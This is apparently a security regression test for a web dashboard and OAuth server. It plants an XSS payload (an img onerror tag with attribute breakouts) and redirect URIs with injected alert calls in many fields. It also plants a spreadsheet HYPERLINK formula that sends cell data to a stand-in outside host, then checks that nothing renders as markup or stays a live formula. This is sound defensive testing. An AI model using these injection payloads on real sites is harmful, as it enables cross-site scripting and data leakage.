import { type Browser, inChromium } from '@gatehouse/testing/chromium';
import { jsonRequest } from '@gatehouse/testing/json-request';
import t from 'tap';
import { signInAndAllow, startServer } from './clients/set-up.ts';

type Made = { id: string; client_id: string };

/** Leaves an element or an attribute behind where it becomes markup, though the policy of the pages runs no script of it. */
const HOSTILE = `"'><x-marked></x-marked><img src=x x-marked onerror="window.marked=1"></title></textarea> x-marked=""`;
const FORMULA = `=HYPERLINK("https://elsewhere.example/?"&A1)`;

await inChromium(t, async (browser) => {
  t.setTimeout(240_000);
  const { issuer, demo, browser: formBrowser } = await startServer(t);

  const ask = <T = Made>(method: string, path: string, token?: string, body?: unknown, agent = 'test') =>
    jsonRequest<T>(method, issuer + path, { token, body, headers: { 'user-agent': agent } });
  const login = async ({ username, password }: { username: string; password: string }, agent?: string) =>
    (await ask<{ token: string }>('POST', '/api/v1/auth/login', undefined, { username, password }, agent))
      .body.token;

  /** Puts the text into every field that people and third-party developers can set; returns the pages that show them. */
  async function plant(): Promise<{ admin: string[]; user: string[] }> {
    const admin = await login(demo.admin);
    const user = await login(demo.user, `${HOSTILE}/1.0`);
    const refused: string[] = [];
    const put = async (method: string, path: string, token: string, body: unknown) => {
      const { status, body: made } = await ask(method, path, token, body);
      if (status >= 400) refused.push(`${method} ${path}`);
      return made;
    };
    const app = await put('POST', '/api/v1/applications', user, {
      ...{ name: HOSTILE, type: 'web', scopes: ['openid', 'read:data'] },
      redirect_uris: [`https://web.example.org/callback');alert(1);('`],
      post_logout_redirect_uris: ['https://web.example.org/?a=1&lt=(2)'],
      backchannel_logout_uri: `https://web.example.org/out';alert(1);'`,
    });
    await put('POST', `/api/v1/applications/${app.client_id}/api-keys`, user, {
      ...{ name: HOSTILE, scopes: ['read:data'] },
    });
    await put('PUT', `/v2/users/${demo.user.user_id}`, user, {
      profile: { first_name: HOSTILE, last_name: HOSTILE },
    });
    const item = await put('POST', '/api/v1/items', user, { name: HOSTILE, value: { [HOSTILE]: HOSTILE } });
    const product = await put('POST', '/v2/products', admin, {
      ...{ name: HOSTILE, description: HOSTILE, category: HOSTILE.slice(0, 100), sku: HOSTILE.slice(0, 60) },
      ...{ price: 1, currency: 'EUR', stock: 9 },
    });
    await put('POST', '/v2/products', admin, { name: FORMULA, price: 1, currency: 'EUR', stock: 9 });
    const order = await put('POST', '/v2/orders', user, {
      ...{ currency: 'EUR', items: [{ product_id: product.id, quantity: 1 }] },
    });
    await put('PATCH', `/v2/orders/${order.id}/status`, user, { status: 'cancelled', note: HOSTILE });
    const message = { user_id: demo.user.user_id, type: 'email', message: HOSTILE };
    const notification = await put('POST', '/v2/notifications', admin, message);
    const report = await put('POST', '/v2/reports/generate', admin, {
      ...{ type: 'orders', format: 'json', filters: { user_id: HOSTILE } },
    });
    const stored = await put('POST', '/api/v1/items', user, { name: 'found', value: HOSTILE });
    if (refused.length > 0) throw new Error(`not stored: ${refused}`);
    // Refused where they are no name or address; what is refused is not shown either.
    await ask('POST', '/kb/api/v1/users', admin, {
      ...{ username: `u${HOSTILE}`, email: `"<x-marked>"@example.org`, password: 'correct horse battery' },
    });
    const query = new URLSearchParams(
      ['q', 'status', 'type', 'kind', 'action', 'actor', 'subject', 'client', 'address', 'from', 'to', 'user']
        .concat(['queue', 'category', 'format', 'owner', 'range', 'done', 'cursor', 'request'])
        .map((name): [string, string] => [name, HOSTILE]),
    ).toString();
    const authorize = `/oauth2/authorize?${new URLSearchParams({
      ...{ response_type: 'code', client_id: app.client_id, scope: 'openid read:data', state: HOSTILE },
      redirect_uri: `https://web.example.org/callback');alert(1);('`,
    })}`;
    await signInAndAllow(formBrowser(), authorize, demo.user);
    const ofUser = ['', '/password-reset', `/applications/${app.client_id}/end`];
    const lists = ['', '/applications', '/items', '/products', '/orders', '/users', '/audit', '/reports']
      .concat(['/notifications', '/dead-letters', '/queues', '/signing-keys', '/applications/new'])
      .concat(['/reports/new', '/notifications/new', '/search', '/try/list_v2_products', '/preferences'])
      .concat(['/products/import', '/users/import']);
    const ofApplication = [
      '',
      '/branding',
      '/credentials',
      '/quick-start',
      '/usage',
      '/users',
      '/members',
      '/profiles',
    ];
    const pages = [
      ...lists,
      ...lists.map((path) => `${path}?${query}`),
      ...ofApplication.map((path) => `/applications/${app.client_id}${path}`),
      ...[`/items/${item.id}`, `/items/${stored.id}`, `/products/${product.id}`, `/orders/${order.id}`],
      ...ofUser.map((path) => `/users/${demo.user.user_id}${path}`),
      ...[`/notifications/${notification.id}`, `/reports/${report.id}`],
      `/reports/new?type=orders&${new URLSearchParams({ 'filters.user_id': HOSTILE, from: HOSTILE })}`,
      `/nothing/${encodeURIComponent(HOSTILE)}`,
      `/items/${encodeURIComponent(HOSTILE)}`,
    ].map((path) => `/dashboard${path}`);
    const ofAccount = ['', '/applications', '/sessions', '/profile', '/password'].map(
      (path) => `/account${path}`,
    );
    return {
      admin: pages,
      user: [...pages, ...ofAccount, authorize, `/dashboard/sign-in?to=${query}`],
    };
  }

  async function signedIn(who: { username: string; password: string }) {
    const context = await browser.newContext({ userAgent: `Mozilla/5.0 ${HOSTILE}` });
    t.teardown(() => context.close());
    const page = await context.newPage();
    const noticed: string[] = [];
    page.on('dialog', (dialog) => {
      noticed.push(`${page.url()}: a dialog`);
      void dialog.dismiss();
    });
    page.on('console', (message) => {
      if (/Content Security Policy|Refused/.test(message.text()))
        noticed.push(`${page.url()}: ${message.text()}`);
    });
    page.on('pageerror', (error) => noticed.push(`${page.url()}: ${error.message}`));
    await page.goto(`${issuer}/dashboard`);
    await page.fill('#username', who.username);
    await page.fill('#password', who.password);
    await page.click('button.primary');
    await page.waitForURL(`${issuer}/dashboard`);
    return { page, noticed };
  }

  /** What of the planted text has become markup. */
  async function marks(page: Awaited<ReturnType<Browser['newPage']>>): Promise<string[]> {
    return page.evaluate<string[]>(`[
      ...[...document.querySelectorAll('x-marked, [x-marked], [onerror], img[src]:not([src^="data:image/png;"])')].map(({ outerHTML }) => outerHTML),
      ...[...document.querySelectorAll(':is([href], [action], [src]):not(link)')]
        .flatMap((it) => ['href', 'action', 'src'].map((name) => it.getAttribute(name)))
        .filter((address) => /^\\s*(?:javascript|data|vbscript):/i.test(address ?? '')),
      ...(window.marked === undefined ? [] : ['a script ran']),
    ]`);
  }

  const pages = await plant();
  for (const [who, account] of [
    ['admin', demo.admin],
    ['user', demo.user],
  ] as const) {
    t.test(`nothing that is typed becomes markup in what the ${who} sees`, async (t) => {
      const { page, noticed } = await signedIn(account);
      for (const path of pages[who]) {
        await page.goto(issuer + path);
        t.same(await marks(page), [], path.slice(0, 80));
      }
      t.same(noticed, []);
    });
  }

  t.test('a search that is typed puts no markup into the results', async (t) => {
    const { page, noticed } = await signedIn(demo.admin);
    await page.goto(`${issuer}/dashboard/items`);
    await page.fill('#search-q', HOSTILE);
    await page.locator('#count', { hasText: '1 item found' }).waitFor();
    t.same(await marks(page), []);
    t.same(noticed, []);
  });

  t.test('a file that is imported becomes no markup on the pages of the import', async (t) => {
    const { page, noticed } = await signedIn(demo.admin);
    const cell = `"${HOSTILE.replaceAll('"', '""')}"`;
    const choose = async (text: string) => {
      await page.goto(`${issuer}/dashboard/products/import`);
      const buffer = Buffer.from(text);
      await page.setInputFiles('#file', { name: `${HOSTILE}.csv`, mimeType: 'text/csv', buffer });
      await page.click('main button.primary');
    };
    await choose(`${cell}\n1`);
    await page.getByText('The first line must name the columns.').waitFor();
    t.same(await marks(page), []);
    await choose(`name,price,currency,sku,status\n${cell},1,EUR,,\n${cell},1,${cell},${cell},${cell}`);
    await page.getByText('Nothing has been changed yet.').waitFor();
    t.same(await marks(page), []);
    await page.click('main button.primary');
    await page.getByText('1 row was not imported').waitFor();
    t.same(await marks(page), []);
    t.same(noticed, []);
  });

  t.test('an export of the list is no formula, and changes nothing when it is imported', async (t) => {
    const { page } = await signedIn(demo.admin);
    await page.goto(`${issuer}/dashboard/products`);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
    const parts: Buffer[] = [];
    for await (const part of await download.createReadStream()) parts.push(part as Buffer);
    const buffer = Buffer.concat(parts);
    t.match(String(buffer), `"'=HYPERLINK(`);
    t.match(download.suggestedFilename(), /^products-[\d-]{10}\.csv$/);
    await page.goto(`${issuer}/dashboard/products/import`);
    await page.setInputFiles('#file', { name: 'products.csv', mimeType: 'text/csv', buffer });
    await page.click('main button.primary');
    await page.getByText('Nothing has been changed yet.').waitFor();
    t.match(
      await page.locator('.facts').textContent(),
      /To be created0To be changed0Unchanged\d+With errors0/,
    );
  });

  t.test('a download is no formula in a spreadsheet', async (t) => {
    const { page } = await signedIn(demo.admin);
    await page.goto(`${issuer}/dashboard/reports/new?type=products`);
    await page.click('button:has-text("Start the report")');
    const [download] = await Promise.all([
      page.waitForEvent('download', { timeout: 60_000 }),
      page.locator('a:has-text("Download")').click({ timeout: 60_000 }),
    ]);
    let text = '';
    for await (const part of await download.createReadStream()) text += String(part);
    t.match(text, `"'=HYPERLINK(`);
    t.notMatch(text, /^"?[=+@-]/m);
    t.match(download.suggestedFilename(), /^[\w.-]+\.csv$/);
  });
});
